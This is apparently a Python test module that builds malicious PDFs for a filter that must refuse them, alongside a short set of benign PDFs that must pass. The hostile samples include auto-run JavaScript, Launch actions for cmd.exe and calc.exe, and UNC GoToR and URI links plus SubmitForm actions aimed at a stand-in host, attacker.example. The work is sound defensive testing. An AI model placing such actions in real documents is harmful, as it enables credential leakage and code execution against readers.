"""Hostile PDFs written byte by byte (pikepdf is not installed): every place an action can hide.

`build` writes a small, well-formed PDF with a correct cross-reference table, with extra entries in its
catalog, its page and a link annotation, and extra objects numbered from 5 on; each hostile file is a
real PDF that pyHanko reads, so a refusal is the safety check's, not the parser's.
"""

from .apply_support import pdf_from_objects

UNC = rb"(\\\\attacker.example\\share\\x.pdf)"


def build(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF; ``extra`` objects are numbered 5, 6, ... and may be referenced from the entries."""
    body = b"BT /F1 12 Tf 72 720 Td (giay to) Tj ET"
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b" >>",
               b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream", *extra]
    return pdf_from_objects(objects, version=b"1.7")


def _with_link(action: bytes) -> bytes:
    """The PDF with one link annotation (object 5) on its page, carrying ``action``."""
    return build(page=b"/Annots [5 0 R]",
                 extra=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>",))


# name -> the PDF; each must be refused wherever a PDF is stored
HOSTILE = {
    "openaction-javascript": lambda: build(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "openaction-javascript-hex-name": lambda: build(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "openaction-indirect-type": lambda: build(b"/OpenAction << /S 5 0 R /F " + UNC + b" /D [0 /Fit] >>",
                                              extra=(b"/GoToR",)),
    "openaction-gotor-unc": lambda: build(b"/OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
    "openaction-uri": lambda: build(b"/OpenAction << /S /URI /URI (https://attacker.example/opened) >>"),
    "openaction-goto-then-uri": lambda: build(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://attacker.example/) >>] >>"),
    "openaction-launch": lambda: build(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "catalog-aa-uri": lambda: build(b"/AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >>"),
    "page-aa-gotor": lambda: build(page=b"/AA << /O << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>"),
    "page-aa-uri": lambda: build(page=b"/AA << /O 5 0 R >>",
                                 extra=(b"<< /S /URI /URI (https://attacker.example/page) >>",)),
    "field-aa-submitform": lambda: build(
        b"/AcroForm << /Fields [5 0 R] >>", b"/Annots [5 0 R]",
        (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 10 10] "
         b"/AA << /K << /S /SubmitForm /F (https://attacker.example/) >> >> >>",)),
    "annotation-aa-importdata": lambda: build(
        page=b"/Annots [5 0 R]",
        extra=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E << /S /ImportData /F (x.fdf) >> >> >>",)),
    "names-javascript": lambda: build(b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
                                      extra=(b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
    "link-launch": lambda: _with_link(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"),
    "link-gotor-unc": lambda: _with_link(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
    "link-gote": lambda: _with_link(b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
    "link-uri-unc": lambda: _with_link(rb"<< /S /URI /URI (\\\\attacker.example\\share) >>"),
    "link-uri-file": lambda: _with_link(b"<< /S /URI /URI (file:///etc/passwd) >>"),
}

# Benign actions a real document may carry: each must pass.
BENIGN = {
    "openaction-goto-first-page": lambda: build(b"/OpenAction [3 0 R /Fit]"),
    "link-to-web-page": lambda: _with_link(b"<< /S /URI /URI (https://dichvucong.gov.vn/) >>"),
    "link-to-page": lambda: _with_link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
}
